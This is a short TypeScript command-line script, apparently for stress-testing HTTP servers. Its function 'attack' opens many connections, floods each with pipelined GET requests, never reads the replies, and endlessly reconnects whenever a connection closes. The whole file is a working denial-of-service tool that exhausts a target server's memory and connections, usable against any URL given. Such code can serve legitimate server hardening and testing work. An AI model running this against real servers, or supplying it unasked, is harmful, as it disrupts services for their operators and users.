// A client that sends requests and never reads, as a process: node pipelining-client.ts URL CONNECTIONS REQUESTS PATH
// It reopens at once each connection that is cut.
import { connect } from 'node:net'

const [address = '', connections = '', requests = '', path = ''] = process.argv.slice(2)
const { hostname, port } = new URL(address)
const sent = `GET ${path} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`.repeat(Number(requests))

function attack(): void {
  const socket = connect({ host: hostname, port: Number(port) }, () => socket.write(sent))
  socket.pause()
  socket.on('error', () => {})
  socket.on('close', () => setImmediate(attack))
}

for (let index = 0; index < Number(connections); index += 1) attack()
